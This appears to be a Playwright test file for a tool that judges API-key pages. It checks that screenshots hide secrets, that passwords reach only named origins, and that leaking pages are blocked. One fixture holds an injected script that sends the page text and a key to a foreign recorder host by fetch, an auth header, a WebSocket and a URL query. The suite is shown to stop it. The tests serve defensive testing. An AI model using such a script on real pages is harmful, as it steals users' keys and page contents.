import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { pictureOf } from '../../../src/keypage/window/screenshot.js';
import { judgeAt, noAccount, password, startWithPages } from '../support/key-page.js';
import { startOddPage } from '../support/odd-page.js';
import { startRecorders } from '../support/recorder.js';
import { expect, inCi, inFull, rowsInCi, test } from '../support/test.js';

const loginForm = (action: string): string =>
  `<form method="post" action="${action}"><label>Username <input name="u"></label><label>Password <input type="password" name="p"></label><button>Log in</button></form>`;

/** Colour of a pixel of a PNG, `r,g,b`. */
const pixel = (page: Page, png: Buffer, at: { x: number; y: number }): Promise<string> =>
  page.evaluate(
    async ({ data, x, y }) => {
      const image = new Image();
      image.src = `data:image/png;base64,${data}`;
      await image.decode();
      const canvas = document.createElement('canvas');
      [canvas.width, canvas.height] = [image.width, image.height];
      const context = canvas.getContext('2d');
      context?.drawImage(image, 0, 0);
      return [...(context?.getImageData(x, y, 1, 1).data ?? [])].slice(0, 3).join();
    },
    { data: png.toString('base64'), ...at },
  );

test('a picture shows neither a key nor what looks like one', inCi, async ({ chromium }) => {
  const page = await chromium.newPage();
  try {
    const secret = 'seven-words-of-a-secret';
    await page.setContent(
      `<p id="open">open</p><p><code id="key">${crypto.randomUUID().replaceAll('-', '')}</code></p><p id="known">${secret}</p><p id="grouped">${secret.replaceAll('-', ' ').replaceAll('o', 'o·')}</p><p id="drawn" title="${secret}">drawn</p><input id="field" value="something"><input id="hint" placeholder="${secret}"><svg id="picture" width="90" height="20"><text y="15">${secret}</text></svg>`,
    );
    const png = await pictureOf(page, [secret]);
    expect(png).toBeDefined();
    for (const id of ['key', 'known', 'grouped', 'drawn', 'field', 'hint', 'picture']) {
      const box = await page.locator(`#${id}`).boundingBox();
      if (!box || !png) throw new Error('no box');
      const at = { x: Math.round(box.x + 3), y: Math.round(box.y + box.height / 2) };
      expect(await pixel(page, png, at), id).toBe('0,0,0');
    }
  } finally {
    await page.close();
  }
});

test('a failure leaves one picture, and no text with a secret in it', inFull, async ({ chromium }, testInfo) => {
  const service = await startWithPages({ fault: 'message-beside-key' });
  try {
    const screenshotsDir = testInfo.outputPath('pictures');
    const judged = await judgeAt(service, chromium, {}, { screenshotsDir });
    expect(judged.everything).toContain('key-page.png');
    expect((await readFile(join(screenshotsDir, 'key-page.png'))).subarray(1, 4).toString()).toBe('PNG');
    expect(judged.secrets).toContain(password);
    for (const secret of judged.secrets) expect(judged.everything).not.toContain(secret);
  } finally {
    await service.close();
  }
});

test('a password in a text of the page is in no reason, whatever is done to the text', inCi, async ({ chromium }) => {
  const digits = 'Zq7!vT&9 mRx%42pLw';
  const page = await startOddPage({
    page: ({ keys }) =>
      `<h1>API key</h1><p>${keys.at(-1) ?? `You (${digits.replace('&', '&amp;')}) have no API key yet.`}</p><form method="post" action="/key"><button>Generate API key</button></form>`,
  });
  try {
    const judged = await judgeAt(page, chromium, { password: digits });
    // Of whom a sentence with a name in it speaks is not known.
    expect(judged.outcomes['says-when-there-is-none'], judged.everything).toBe('inconclusive');
    expect(judged.everything).toContain('have no API key yet.');
    expect(judged.everything).not.toMatch(/vT&|mRx|pLw/);
  } finally {
    await page.close();
  }
});

/** Places of a key of plain words, which is not recognised. */
const unrecognised: Record<string, (key: string) => string> = {
  'a text that is there at once': (key) => `<p role="status">Your key is ${key}. It was made successfully.</p>`,
  'a dialog of the browser': (key) => `<script>prompt('Copy your key', '${key}')</script>`,
  'a button': (key) => `<p>Created.</p><button>Copy ${key}</button>`,
};

const unrecognisedRow = rowsInCi();

for (const [title, shows] of Object.entries(unrecognised))
  for (const key of ['qwhzkxjvplmrtnbsdfgc', 'tango-velvet-orbit-candle'])
    test(
      `a key that is not recognised is in no text of the record: ${key}, in ${title}`,
      unrecognisedRow(),
      async ({ chromium }) => {
        const page = await startOddPage({
          page: ({ requests }) =>
            `${requests.at(-2)?.method === 'POST' ? shows(key) : ''}<h1>API key</h1><p>You have no API key yet.</p><form method="post" action="/key"><button>Generate API key</button></form>`,
          make: ({ keys }) => void keys.push(key),
        });
        try {
          const judged = await judgeAt(page, chromium, noAccount, { patienceMs: 500, lateMs: 1_000 });
          expect(judged.outcomes['makes-a-key'], judged.everything).toBe('inconclusive');
          expect(judged.everything).not.toContain(key.slice(0, 10));
          expect(judged.everything).not.toContain(key.slice(-10));
        } finally {
          await page.close();
        }
      },
    );

test('the password goes to nobody but the origins that were named', inCi, async ({ chromium }) => {
  const stranger = await startOddPage({ page: () => loginForm('/log-in') });
  const page = await startOddPage({ page: () => loginForm(`${stranger.baseUrl}/log-in`) });
  const redirecting = await startOddPage({
    page: () => '',
    handle: (request, response) => {
      if (request.url !== '/key') return false;
      response.writeHead(302, { location: stranger.url }).end();
      return true;
    },
  });
  try {
    for (const asked of [page, redirecting]) {
      const judged = await judgeAt(asked, chromium);
      expect(judged.outcomes['makes-a-key'], judged.everything).toBe('inconclusive');
      expect(judged.everything).toContain('the password was not typed');
    }
    expect(stranger.state.requests.filter(({ method }) => method === 'POST')).toEqual([]);
    const named = await judgeAt(redirecting, chromium, { loginUrl: `${stranger.baseUrl}/` });
    expect(
      stranger.state.requests.filter(({ method }) => method === 'POST'),
      named.everything,
    ).toHaveLength(1);
  } finally {
    await Promise.all([page.close(), stranger.close(), redirecting.close()]);
  }
});

test(
  'a page that sends a key elsewhere, or puts it into a URL, is stopped, and told of',
  inCi,
  async ({ chromium }) => {
    const recorders = await startRecorders();
    const send = (key: string): string =>
      `<script>let left = 5;
     const sending = setInterval(() => { if ((left -= 1) === 0) clearInterval(sending); for (const [url, options] of [
       ['${recorders.foreign}/?c=body', { method: 'POST', mode: 'no-cors', body: document.body.innerText }],
       ['${recorders.foreign}/?c=header', { headers: { authorization: 'Token ${key}' } }],
       ['${recorders.plain}/?c=plain', { method: 'POST', mode: 'no-cors', body: '${key}' }],
       ['/pixel?k=${key}', { mode: 'no-cors' }],
     ]) fetch(url, options).catch(() => {}) }, 200);
     const socket = new WebSocket('${recorders.foreign.replace('https', 'wss')}/?c=frame');
     socket.onopen = () => { for (let sent = 0; sent < 5; sent += 1) setTimeout(() => socket.send('${key}'), 100 * sent); }</script>`;
    const old = crypto.randomUUID().replaceAll('-', '');
    const page = await startOddPage({
      page: ({ keys }) => {
        if (keys.length === 0) keys.push(old);
        // Once the action was pressed, the key from before is known.
        return `<h1>API key</h1>${keys.map((key) => `<p>${key}</p>`).join('')}<form method="post" action="/key"><button>Generate API key</button></form>${keys.length > 1 ? send(old) : ''}`;
      },
    });
    try {
      const judged = await judgeAt(page, chromium, noAccount);
      expect(judged.outcomes['makes-a-key'], judged.everything).toBe('passed');
      expect(recorders.channelsOf(old)).toEqual([]);
      expect(page.state.requests.map(({ url }) => url).join()).not.toContain(old);
      const told = judged.observations.map(({ fact }) => fact).join();
      for (const place of [
        'in the body of a request',
        'in a header field',
        'in a WebSocket',
        `${page.baseUrl} in the URL`,
        'the suite stopped it',
      ])
        expect(told).toContain(place);
    } finally {
      await Promise.all([page.close(), recorders.close()]);
    }
  },
);

test('a page that hangs costs time only', inFull, async ({ chromium }) => {
  const page = await startOddPage({
    page: () => '<p>Your API key</p><script>setTimeout(() => { for (;;) {} }, 50)</script>',
  });
  try {
    const judged = await judgeAt(page, chromium, {}, { deadlineMs: 3_000 });
    expect(judged.outcomes['makes-a-key'], judged.everything).toBe('inconclusive');
    expect(judged.everything).toContain('ended after 3 s');
  } finally {
    await page.close();
  }
});
